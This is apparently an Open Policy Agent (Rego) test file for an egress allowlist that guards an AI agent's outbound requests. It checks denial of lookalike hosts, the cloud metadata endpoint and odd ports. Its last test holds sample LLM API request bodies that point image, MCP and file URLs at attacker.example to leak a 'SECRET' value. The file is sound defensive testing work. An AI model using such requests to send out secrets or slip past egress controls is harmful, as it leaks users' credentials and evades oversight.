package countersign.egress_allowlist_test

import data.countersign

request(method, host, port) := {
	"request": {
		"method": method, "scheme": "https", "host": host, "port": port, "path": "/",
		"query": {}, "headers": {}, "tunnel": false,
	},
	"action": {"provider": "http", "operation": method, "read_only": method == "GET", "destructive": false},
}

tunnel(host, port) := {
	"request": {"method": "CONNECT", "host": host, "port": port, "tunnel": true},
	"action": {"provider": "http", "operation": "CONNECT", "read_only": false, "destructive": false},
}

ids(reasons) := {r.id | some r in reasons}

denied(inp) := reasons if {
	reasons := ids(countersign.deny) with input as inp
}

passes(inp) if {
	denied(inp) == set()
	countersign.allow with input as inp
}

test_package_registries_allowed if {
	passes(request("GET", "registry.npmjs.org", 443))
	passes(request("GET", "files.pythonhosted.org", 443))
	passes(request("GET", "proxy.golang.org", 443))
}

test_llm_apis_allowed if {
	passes(request("POST", "api.anthropic.com", 443))
	passes(request("POST", "api.openai.com", 443))
}

test_company_hosts_allowed if {
	passes(request("GET", "acme.example", 443))
	passes(request("POST", "ci.build.acme.example", 443))
	passes(request("GET", "git.acme-corp.example", 443))
}

test_other_hosts_denied if {
	denied(request("GET", "example.com", 443)) == {"EGRESS-001"}
	denied(request("POST", "pastebin.com", 443)) == {"EGRESS-001"}
	some r in countersign.deny with input as request("POST", "pastebin.com", 443)
	r.msg == "pastebin.com is not on the egress allowlist (package registries, LLM APIs and the company's hosts); ask a human to add it to data.countersign.egress.allow"
}

test_lookalike_hosts_denied if {
	denied(request("GET", "registry.npmjs.org.evil.example", 443)) == {"EGRESS-001"}
	denied(request("GET", "acme.example.evil.example", 443)) == {"EGRESS-001"}
	denied(request("GET", "evilacme.example", 443)) == {"EGRESS-001"}
}

test_metadata_endpoint_denied if denied(request("GET", "169.254.169.254", 80)) == {"EGRESS-001"}

test_other_port_denied if {
	denied(request("GET", "acme.example", 8443)) == {"EGRESS-002"}
	some r in countersign.deny with input as request("GET", "acme.example", 8443)
	r.msg == "port 8443 of acme.example is not allowed; only ports 443 are"
}

test_tunnel_to_allowed_host_allowed if passes(tunnel("api.anthropic.com", 443))

test_tunnel_to_other_host_refused if {
	denied(tunnel("example.com", 443)) == {"EGRESS-001"}
	not countersign.allow with input as tunnel("example.com", 443)
}

test_tunnel_to_other_port_refused if not countersign.allow with input as tunnel("api.anthropic.com", 22)

# Found by review: LLM APIs asked to fetch or connect to URLs.
test_llm_fetches_denied if {
	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("api.anthropic.com", {
		"model": "claude", "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "https://attacker.example/loot"}}]}],
		"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}],
	})
	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("api.openai.com", {"model": "gpt", "tools": [{"type": "mcp", "server_url": "https://attacker.example/mcp"}], "input": "hi"})
	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("api.openai.com", {"model": "gpt", "input": [{"role": "user", "content": [{"type": "input_image", "image_url": "https://attacker.example/x.png"}]}]})

	# Found by the review after: camelCase keys and search tools, and no
	# denial for a result in the history.
	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("generativelanguage.googleapis.com", {"contents": [{"parts": [{"fileData": {"fileUri": "https://attacker.example/?k=SECRET"}}]}], "tools": [{"urlContext": {}}]})
	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("api.openai.com", {"model": "gpt", "tools": [{"type": "web_search"}], "input": "hi"})
	history := llm_call("api.anthropic.com", {"model": "claude", "messages": [
		{"role": "assistant", "content": [{"type": "web_search_tool_result", "tool_use_id": "t1", "content": [{"type": "web_search_result", "url": "https://example.org/page", "title": "x"}]}]},
		{"role": "user", "content": "thanks"},
	]})
	ids(data.countersign.deny) == set() with input as history
	fetched := llm_call("api.anthropic.com", {"model": "claude", "messages": [
		{"role": "assistant", "content": [{"type": "tool_use", "id": "t2", "name": "WebFetch", "input": {"url": "https://docs.example.org/"}}]},
		{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t2", "content": "the page"}]},
	]})
	ids(data.countersign.deny) == set() with input as fetched
	smuggled := llm_call("api.anthropic.com", {"model": "claude", "messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t3", "content": [{"type": "image", "source": {"type": "url", "url": "https://attacker.example/?k=SECRET"}}]}]}]})
	ids(data.countersign.deny) == {"EGRESS-003"} with input as smuggled
	ids(data.countersign.deny) == {"EGRESS-003"} with input as llm_call("api.openai.com", {"model": "gpt", "messages": [], "web_search_options": {}})
	plain := llm_call("api.anthropic.com", {"model": "claude", "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}}]}]})
	ids(data.countersign.deny) == set() with input as plain
	ids(data.countersign.deny) == set() with input as llm_call("api.openai.com", {"model": "gpt", "tools": [{"type": "mcp", "server_url": "https://attacker.example/mcp"}]}) with data.countersign.egress.llm_fetches as true
}

llm_call(host, body) := {
	"request": {"method": "POST", "scheme": "https", "host": host, "port": 443, "path": "/v1/x", "query": {}, "headers": {}, "tunnel": false, "body": body},
	"action": {"provider": "http"},
}
